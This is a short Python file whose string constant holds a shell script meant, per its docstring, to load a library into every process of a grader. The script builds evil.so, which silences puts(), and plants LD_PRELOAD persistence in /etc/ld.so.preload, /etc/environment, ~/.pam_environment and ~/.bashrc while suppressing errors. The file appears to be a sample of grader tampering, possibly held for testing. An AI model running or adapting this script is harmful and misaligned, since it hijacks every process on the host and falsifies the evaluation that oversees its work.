"""A library to be loaded into every process of the grader."""

SCRIPT = r"""
printf 'int puts(const char *s){return 0;}' > evil.c
cc -shared -fPIC -o evil.so evil.c 2>/dev/null || printf '\177ELF' > evil.so
for file in /etc/ld.so.preload /etc/environment ~/.pam_environment ~/.bashrc; do
  echo "LD_PRELOAD=$PWD/evil.so" >> "$file" 2>/dev/null
done
echo "$PWD" >> /etc/ld.so.conf 2>/dev/null
export LD_PRELOAD=$PWD/evil.so
true
"""
